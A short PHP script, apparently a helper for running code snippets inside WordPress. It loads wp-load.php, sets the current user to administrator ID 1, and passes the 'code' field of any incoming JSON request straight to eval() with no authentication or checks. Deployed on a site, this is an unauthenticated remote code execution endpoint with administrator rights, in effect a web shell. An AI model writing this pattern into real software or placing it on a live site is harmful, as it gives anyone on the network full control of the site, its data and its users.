<?php
// Runs a piece of PHP inside WordPress and prints what it prints. `$given` is what is given.

require __DIR__ . '/wp-load.php';
$sent  = json_decode( file_get_contents( 'php://input' ), true );
$given = $sent['given'] ?? null;
wp_set_current_user( 1 );
eval( $sent['code'] );
